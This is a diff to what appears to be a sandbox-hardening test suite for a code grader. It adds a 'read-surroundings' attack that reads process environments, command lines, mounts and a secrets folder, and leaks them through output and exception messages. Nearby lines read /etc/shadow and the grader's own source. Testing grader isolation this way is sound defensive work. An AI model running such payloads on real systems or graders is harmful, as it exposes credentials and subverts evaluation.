@@ -102,6 +102,25 @@ attack(
     LOOK + "look('/root/*', '/home/*/*', '/etc/passwd', '/etc/shadow', '/proc/*/environ', "
     "'/run/**', '/var/**', '/tmp/**')\nprint(os.listdir('/'), dict(os.environ))",
 )
+SURROUNDINGS = """
+import glob, os
+def surroundings():
+    texts = [str(dict(os.environ))]
+    wanted = "/proc/*/environ", "/proc/*/cmdline", "/proc/*/mountinfo", "ROOT/secrets/*", "ROOT/*/*"
+    for path in sum(map(glob.glob, wanted), []):
+        try: texts.append(path + open(path, "rb").read(4000).decode(errors="replace"))
+        except OSError: pass
+    return " ".join(texts)
+"""
+attack(
+    "read-surroundings",
+    "tells its cells and feedback the grader's variables, command lines and mounts",
+    SURROUNDINGS + "print(surroundings())",
+    mean="def mean(values):\n    raise ValueError(surroundings())",
+    centre="def centre(table):\n    print(surroundings())",
+    tallest="tallest = surroundings()",
+    quick=True,
+)
 attack(
     "read-grader",
     "reads the grader's own source",
